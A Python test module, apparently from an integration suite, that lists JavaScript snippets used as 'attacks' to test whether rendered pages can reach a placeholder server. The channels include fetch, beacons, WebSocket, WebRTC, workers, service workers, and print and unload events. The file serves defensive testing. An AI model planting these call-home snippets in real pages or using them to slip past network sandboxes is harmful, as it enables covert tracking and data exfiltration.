"""Attacks by JavaScript."""

from tests.integration.attacks.case import Case

_NO_CORS = "{mode: 'no-cors'}"
_BLOB = "URL.createObjectURL(new Blob([`%s`], {type: 'text/javascript'}))"
_FETCH_BLOB = _BLOB % "fetch('$url')"
_RTC = (
    "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); "
    "(window.kept ??= []).push(p);"
)

_ASKING = {
    "fetch": f"fetch('$url', {_NO_CORS}).catch(() => 0)",
    "fetch with CORS": "fetch('$url', {headers: {'X-Own': 'y'}}).then((r) => r.text()).then((t) =>"
    " document.body.append(t), () => 0)",
    "fetch that is kept alive": "fetch('$url', {keepalive: true, method: 'POST', body: 'x', mode: "
    "'no-cors'}).catch(() => 0)",
    "fetch later": "self.fetchLater?.('$url', {activateAfter: 0})",
    "XMLHttpRequest": "{const x = new XMLHttpRequest(); x.open('GET', '$url'); x.send()}",
    "synchronous XMLHttpRequest": "{const x = new XMLHttpRequest(); x.open('GET', '$url', false);"
    " try {x.send()} catch {}}",
    "image": "new Image().src = '$url'",
    "audio": "new Audio('$url').load()",
    "font": "new FontFace('$slug', 'url($url)').load().catch(() => 0)",
    "written script": "document.write(\"<script src='$url.js'></\" + 'script>')",
    "inserted frame": "{const f = document.createElement('iframe'); f.src = '$url'; "
    "document.body.append(f)}",
    "frame led away": "{const f = document.createElement('iframe'); document.body.append(f); "
    "f.contentWindow.location = '$url'}",
    "import": "import('$url.js').catch(() => 0)",
    "import of JSON": "import('$url.json', {with: {type: 'json'}}).catch(() => 0)",
    "WebAssembly": "WebAssembly.instantiateStreaming(fetch('$url')).catch(() => 0)",
    "cache": "self.caches?.open('x').then((c) => c.add('$url')).catch(() => 0)",
    "payment": "try {new PaymentRequest([{supportedMethods: '$tls'}], {total: {label: 'x', amount: "
    "{currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => 0)} catch {}",
    "identity": "navigator.credentials?.get({identity: {providers: [{configURL: '$url.json', "
    "clientId: 'x'}]}}).catch(() => 0)",
    "shared storage": "self.sharedStorage?.worklet.addModule('$url.js').catch(() => 0)",
    "attribution": "{const i = document.createElement('img'); i.attributionSrc = '$url'; "
    "document.body.append(i)}",
    "media session": "navigator.mediaSession.metadata = new MediaMetadata({title: 'x', artwork: "
    "[{src: '$url'}]})",
    "XML over a document": "document.implementation.createHTMLDocument('').write("
    "\"<img src='$url'>\")",
}
_STREAMING = {
    "event source": "(window.kept ??= []).push(new EventSource('$url'))",
    "WebSocket": "new WebSocket('ws://$host/$slug')",
    "WebSocket with TLS": "new WebSocket('wss://$host/$slug')",
    "WebSocket by http:": "try {new WebSocket('$url')} catch {}",
    "WebSocket stream": "self.WebSocketStream && new WebSocketStream('ws://$host/$slug').opened"
    ".catch(() => 0)",
    "WebTransport": "self.WebTransport && new WebTransport('$tls').ready.catch(() => 0)",
    "WebTransport with a hash": "self.WebTransport && new WebTransport('$tls', {"
    "serverCertificateHashes: [{algorithm: 'sha-256', value: new Uint8Array(32)}]}).ready"
    ".catch(() => 0)",
    "STUN": "{const p = new RTCPeerConnection({iceServers: [{urls: 'stun:$host'}]});" + _RTC + "}",
    "TURN over UDP": "{const p = new RTCPeerConnection({iceServers: [{urls: 'turn:$host', username:"
    " 'x', credential: 'y'}]});" + _RTC + "}",
    "TURN over TCP": "{const p = new RTCPeerConnection({iceServers: [{urls: 'turn:$host?transport="
    "tcp', username: 'x', credential: 'y'}], iceTransportPolicy: 'relay'});" + _RTC + "}",
    "TURN over TLS": "{const p = new RTCPeerConnection({iceServers: [{urls: 'turns:$host', "
    "username: 'x', credential: 'y'}]});" + _RTC + "}",
    "ICE candidate": "{const p = new RTCPeerConnection(), q = new RTCPeerConnection(); p."
    "createDataChannel('x'); (async () => {const o = await p.createOffer(); await p."
    "setLocalDescription(o); await q.setRemoteDescription(o); const a = await q.createAnswer(); "
    "await p.setRemoteDescription(a); await p.addIceCandidate({candidate: 'candidate:1 1 udp 9 $ip "
    "$port typ host', sdpMLineIndex: 0})})(); (window.kept ??= []).push(p, q)}",
}
_WORKING = {
    "worker": f"new Worker({_FETCH_BLOB})",
    "WebSocket of a worker": f"new Worker({_BLOB % "new WebSocket('ws://$host/$slug')"})",
    "imported by a worker": f"new Worker({_BLOB % "importScripts('$url.js')"})",
    "imported by a module worker": f"new Worker({_BLOB % "import '$url.js'"}, {{type: 'module'}})",
    "worker of a worker": "new Worker("
    + _BLOB % "new Worker(URL.createObjectURL(new Blob(['fetch(\"$url\")'])))"
    + ")",
    "worker elsewhere": "try {new Worker('$url.js')} catch {}",
    "shared worker": f"self.SharedWorker && new SharedWorker({_FETCH_BLOB})",
    "shared worker elsewhere": "try {new SharedWorker('$url.js')} catch {}",
    "service worker": "navigator.serviceWorker?.register('$url.js').catch(() => 0)",
    "audio worklet": "new OfflineAudioContext(1, 1, 8000).audioWorklet?.addModule('$url.js')"
    ".catch(() => 0)",
    "XMLHttpRequest of a worker": "new Worker("
    + _BLOB % "const x = new XMLHttpRequest(); x.open('GET', '$url', false); x.send()"
    + ")",
}
_LATE = {
    "before print": "addEventListener('beforeprint', () => {new Image().src = '$url'})",
    "after print": f"addEventListener('afterprint', () => fetch('$url', {_NO_CORS}))",
    "when the medium changes": "matchMedia('print').addEventListener('change', () => {new Image()"
    ".src = '$url'})",
    "beacon": "navigator.sendBeacon('$url', 'x')",
    "beacon at the end": "for (const e of ['pagehide', 'unload', 'beforeunload', 'visibilitychange'"
    "]) addEventListener(e, () => navigator.sendBeacon('$url', e))",
    "fetch at the end": "addEventListener('pagehide', () => fetch('$url', {keepalive: true, mode: "
    "'no-cors'}))",
    "when idle": f"requestIdleCallback(() => fetch('$url', {_NO_CORS}))",
    "soon": f"setTimeout(() => fetch('$url', {_NO_CORS}), 100)",
    "for ever": f"setInterval(() => fetch('$url', {_NO_CORS}).catch(() => 0), 50)",
    "timer of a worker": "new Worker(" + _BLOB % "setInterval(() => fetch('$url'), 50)" + ")",
}
# A page can have only one.
_IMPORT_MAP = '<script type=importmap>{"imports": {"x": "$url.js"}}</script>'

CASES = (
    *(Case("JavaScript", name, f"<script>{script}</script>") for name, script in _ASKING.items()),
    Case(
        "JavaScript",
        "import map",
        f"{_IMPORT_MAP}<script type=module>import 'x'</script>",
        alone=True,
    ),
    *(Case("Streams", name, f"<script>{script}</script>") for name, script in _STREAMING.items()),
    *(Case("Workers", name, f"<script>{script}</script>") for name, script in _WORKING.items()),
    *(Case("Time", name, f"<script>{script}</script>") for name, script in _LATE.items()),
    Case(
        "Time",
        "after the page is printed",
        f"<script>setTimeout(() => fetch('$url', {_NO_CORS}), 400)</script>",
        alone=True,
        output={"wait": {"delay_ms": 0}},
    ),
)
